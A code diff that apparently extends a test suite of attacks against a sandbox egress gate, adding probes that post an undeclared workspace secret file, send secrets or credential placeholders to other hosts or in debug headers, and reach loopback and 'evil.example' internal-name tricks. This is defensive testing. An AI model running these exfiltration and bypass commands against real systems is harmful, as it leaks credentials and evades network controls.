@@ -27,9 +27,9 @@ export function gateAttacks(ctx: AttackContext): Attack[] {
   const lo = ctx.hostLoopback;
   const ips = ["127.0.0.1", "2130706433", "0x7f000001", "0177.0000.0000.0001", "127.1", "[::ffff:127.0.0.1]"];
   for (const ip of ips) {
-    list.push(gate(`2.ip-${ip.replace(/[^0-9a-z]/gi, "")}`, 2, `IP literal ${ip}`, "gate-policy", curl, (c) => `probe -x ${c.proxy} --noproxy '' http://${ip}:${lo.port}/`));
+    list.push(gate(`2.ip-${ip.replace(/[^0-9a-z]/gi, "")}`, 2, `IP literal ${ip}`, "gate-policy", curl, () => `probe -x "$CB_PROXY" --noproxy '' http://${ip}:${lo.port}/`));
   }
-  list.push(gate("2.ip-https", 2, "IP literal over HTTPS", "gate-policy", curl, (c) => `probe -x ${c.proxy} --noproxy '' https://127.0.0.1:${lo.port}/`));
+  list.push(gate("2.ip-https", 2, "IP literal over HTTPS", "gate-policy", curl, () => `probe -x "$CB_PROXY" --noproxy '' https://127.0.0.1:${lo.port}/`));
   list.push(
     gate("2.host-mismatch", 2, "Host header differs from the CONNECT target", "gate-policy", node, (c) =>
       `raw ${q(hostPort)} ${q(c.allowedHost)} 100 ${q(JSON.stringify(`GET / HTTP/1.1\r\nHost: ${c.evilHost}\r\nConnection: close\r\n\r\n`))}`,
@@ -83,6 +83,24 @@ raw ${q(hostPort)} ${q(c.allowedHost)} 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${
       ),
     ),
   );
+  // A copy of a secret in a workspace file no policy declares (a forgotten
+  // `.env`): masking what the env holds does not reach it; only a door that
+  // reads what leaves can stop it.
+  if (ctx.workspaceSecret) {
+    const w = ctx.workspaceSecret;
+    list.push(
+      gate("3.workspace-file", 3, `an undeclared copy of ${w.secretName} in a workspace file, posted`, "gate-dlp", ["curl"], () =>
+        `probe --data-binary @${q(w.path)} "${H}/"`,
+      ),
+    );
+  }
+  // The same to the other allowed host: a door that injects a credential
+  // per host must not deliver a secret to a host it was not meant for.
+  list.push(
+    gate("3.body-other-host", 3, "secret in the body to the other allowed host", "gate-dlp", dlpTools, (c) =>
+      withSecret(c, 0, `probe --data-binary "note=$S" "https://${c.otherAllowedHost}:${httpsPort}/"`),
+    ),
+  );
   list.push(gate("3.http-plain", 3, "secret over plain HTTP to an allowed host", "gate-dlp", dlpTools, (c) => withSecret(c, 0, `probe "${P}/?k=$S"`)));
 
   // 4. A secret spelled as a DNS label under an allowed wildcard.
@@ -96,18 +114,18 @@ raw ${q(hostPort)} ${q(c.allowedHost)} 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${
   // these attacks are about the gate).
   const l = ctx.hostLoopback;
   list.push(
-    gate(`7.proxy-${l.label}`, 7, `host service on ${l.label} through the gate`, "gate-policy", curl, (c) =>
-      `probe -x ${c.proxy} --noproxy '' http://${l.host}:${l.port}/`,
+    gate(`7.proxy-${l.label}`, 7, `host service on ${l.label} through the gate`, "gate-policy", curl, () =>
+      `probe -x "$CB_PROXY" --noproxy '' http://${l.host}:${l.port}/`,
     ),
   );
   for (const t of ctx.hostTcp) {
     list.push(
-      gate(`7.proxy-${t.label}`, 7, `host service on ${t.label} through the gate`, "gate-policy", curl, (c) =>
-        `probe -x ${c.proxy} --noproxy '' http://${t.host.includes(":") ? `[${t.host}]` : t.host}:${t.port}/`,
+      gate(`7.proxy-${t.label}`, 7, `host service on ${t.label} through the gate`, "gate-policy", curl, () =>
+        `probe -x "$CB_PROXY" --noproxy '' http://${t.host.includes(":") ? `[${t.host}]` : t.host}:${t.port}/`,
       ),
     );
   }
-  list.push(gate("7.proxy-localhost", 7, "localhost by name through the gate", "gate-policy", curl, (c) => `probe -x ${c.proxy} --noproxy '' http://localhost:${l.port}/`));
+  list.push(gate("7.proxy-localhost", 7, "localhost by name through the gate", "gate-policy", curl, () => `probe -x "$CB_PROXY" --noproxy '' http://localhost:${l.port}/`));
 
   // 8. The gate itself.
   const ph = new URL(P).host;
@@ -137,8 +155,22 @@ raw ${q(hostPort)} ${q(c.allowedHost)} 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${
     ["userinfo", "git.bottle.internal@evil.example"],
   ];
   for (const [label, name] of internalTricks) {
-    list.push(gate(`8.internal-${label}`, 8, `internal-name trick ${name}`, "gate-policy", curl, (c) => `probe -x ${c.proxy} "http://${name}/"`));
+    list.push(gate(`8.internal-${label}`, 8, `internal-name trick ${name}`, "gate-policy", curl, () => `probe -x "$CB_PROXY" "http://${name}/"`));
   }
+  // The credential's placeholder outside the header its route names, to its
+  // own host: a door that swaps it wherever it appears writes the real
+  // credential into a body or header the upstream may store or show (a
+  // gist, an issue comment, a log).
+  list.push(
+    gate("9.credential-in-body", 9, "credential placeholder in a request body to its own host", "gate-dlp", curl, (c) =>
+      `probe --data-binary "note=$${c.credential.envVar}" "${H}/"`,
+    ),
+  );
+  list.push(
+    gate("9.credential-in-header", 9, "credential placeholder in another header to its own host", "gate-dlp", curl, (c) =>
+      `probe -H "X-Debug: $${c.credential.envVar}" "${H}/"`,
+    ),
+  );
   list.push(
     gate("8.placeholder-elsewhere", 8, "credential placeholder sent to a host without that credential", "gate-dlp", curl, (c) =>
       `probe -H "Authorization: Bearer $${c.credential.envVar}" "https://${c.otherAllowedHost}:${httpsPort}/"`,
